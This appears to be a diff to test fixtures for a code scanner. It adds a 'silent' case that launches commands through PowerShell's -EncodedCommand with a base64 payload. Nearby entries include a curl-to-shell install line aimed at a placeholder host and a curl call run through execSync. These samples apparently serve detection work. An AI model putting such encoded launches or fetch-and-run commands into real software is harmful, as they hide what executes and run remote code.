@@ -165,6 +165,13 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
   ],
   silent: [
     {
+      when: 'a program is started by PowerShell on one system and by itself on others',
+      files: {
+        'index.js': `const cp = require('child_process'); const wrap = (c, a) => ['-NoProfile', '-NonInteractive', '-EncodedCommand', Buffer.from('& ' + c + a.join(' '), 'utf16le').toString('base64')];
+          exports.list = (c, a) => { const [p, w] = process.platform === 'win32' ? ['powershell.exe', wrap(c, a)] : [c, a]; cp.spawn(p, w) }; exports.list('npm', ['ls', '--json', '--all', 'yarn'])`,
+      },
+    },
+    {
       when: 'a page of documentation offers to copy how something is installed',
       files: { 'index.js': `exports.copy = () => navigator.clipboard.writeText('curl -fsSL https://get.invalid/install.sh | sh')` },
     },
